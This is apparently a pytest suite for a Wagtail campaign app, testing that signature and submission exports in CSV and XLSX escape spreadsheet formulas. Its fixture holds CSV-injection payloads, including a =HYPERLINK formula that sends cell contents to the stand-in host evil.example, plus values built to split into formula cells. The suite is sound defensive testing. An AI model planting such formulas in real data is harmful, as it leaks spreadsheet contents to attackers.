"""Spreadsheet exports of signatures never carry a live formula ("CSV injection").

Signers type names, comments and answers; Editors type the extra questions' labels, which become column
headings. Any of them could plant `=HYPERLINK("https://evil.example/?"&H2,"x")`, which sends a signature
manager's spreadsheet to an attacker's site. Both ways out are checked: the Signatures area's export and
Wagtail's own submissions export reached through a campaign page's Forms panel, CSV and XLSX, header row
and every cell. CSV is read as English Excel reads it (`,`) and as German or French Excel does (`;`), and
split on tabs, so a separator inside a cell cannot start a new cell with a formula either.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from campaigns.models.pages import CampaignFormField
from tests.builders import build_campaign, build_index, build_signature, build_site

pytestmark = pytest.mark.django_db

LISTING = "/admin/campaigns/signature/"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EVIL_LABEL = '=HYPERLINK("https://evil.example/?x="&H2,"Click")'


@pytest.fixture
def campaign():
    """A campaign whose Editor planted a formula in an extra question's label, and one hostile signer."""
    page = build_campaign(build_index(build_site()))
    CampaignFormField.objects.create(page=page, locale=page.locale, label=EVIL_LABEL, field_type="singleline")
    question = CampaignFormField.objects.get(page=page).clean_name
    build_signature(
        page,
        first_name='=HYPERLINK("http://evil.example/?"&H2,"x")',
        last_name="+1+1",
        email="=1+1@evil.example",
        postal_code="@SUM(1)",
        comment="-2+3\n=1+1\r\n@SUM(2)\ttab\t+3",
        form_data={question: "x;=1+1", "retired": ["a", "=1+1"]},
        source={
            "utm_term": "x;=1+1",
            "utm_source": "a,=2+2",
            "utm_content": "b\t-3+3",
            "utm_medium": "c; =4",
        },
    )
    return page


def export_urls(page):
    submissions = reverse("wagtailforms:list_submissions", args=[page.pk])
    return {
        "signatures csv": f"{LISTING}?export=csv",
        "signatures xlsx": f"{LISTING}?export=xlsx",
        "submissions csv": f"{submissions}?export=csv",
        "submissions xlsx": f"{submissions}?export=xlsx",
    }


def content(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(data):
    """Every cell of a CSV file as spreadsheets in different locales split it: on `,` (English), on `;`
    (German, French), on tabs."""
    text = data.decode("utf-8-sig")
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            yield from row
        # A reader that does not honour quotes at all: split lines, then separators.
        for line in text.splitlines():
            yield from line.split(delimiter)


def live_formula(text):
    """Whether a spreadsheet would read this cell's text as a formula (leading spaces are skipped)."""
    text = text.lstrip(" ").lstrip('"')
    return text.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("export", ["signatures csv", "submissions csv"])
def test_no_csv_cell_starts_a_formula_in_any_locale(admin_client, campaign, export):
    data = content(admin_client.get(export_urls(campaign)[export]))
    header, *rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1
    assert f"'{EVIL_LABEL}" in header  # kept readable, with an apostrophe in front
    assert '\'=HYPERLINK("http://evil.example/?"&H2,"x")' in rows[0]
    bad = [cell for cell in csv_cells(data) if live_formula(cell)]
    assert bad == []


@pytest.mark.parametrize("export", ["signatures xlsx", "submissions xlsx"])
def test_no_xlsx_cell_is_a_formula_not_even_in_the_header(admin_client, campaign, export):
    data = content(admin_client.get(export_urls(campaign)[export]))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(list(sheet.iter_rows())) == 2
    assert f"'{EVIL_LABEL}" in [cell.value for cell in sheet[1]]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if isinstance(cell.value, str) and live_formula(cell.value)] == []


def test_harmless_text_is_exported_as_typed(admin_client):
    page = build_campaign(build_index(build_site()))
    build_signature(page, first_name="Jean-Luc", last_name="O'Brien", comment="Yes - and more, please; now.")
    (row,) = csv.DictReader(io.StringIO(content(admin_client.get(f"{LISTING}?export=csv")).decode()))
    assert (row["First name"], row["Last name"]) == ("Jean-Luc", "O'Brien")
    assert row["Comment"] == "Yes - and more, please; now."


def test_csv_export_is_what_the_csv_module_writes(admin_client, campaign):
    """The export writes its CSV without the csv module's writer (too slow for a million rows) but in its
    dialect: quotes, separators and line breaks inside cells come out as the csv module would write them."""
    text = content(admin_client.get(f"{LISTING}?export=csv")).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    written = io.StringIO()
    csv.writer(written).writerows(rows)
    assert written.getvalue() == text
    assert "\"'-2+3\n'=1+1\r\n'@SUM(2)\ttab\t'+3\"" in text  # a comment of several lines, quoted
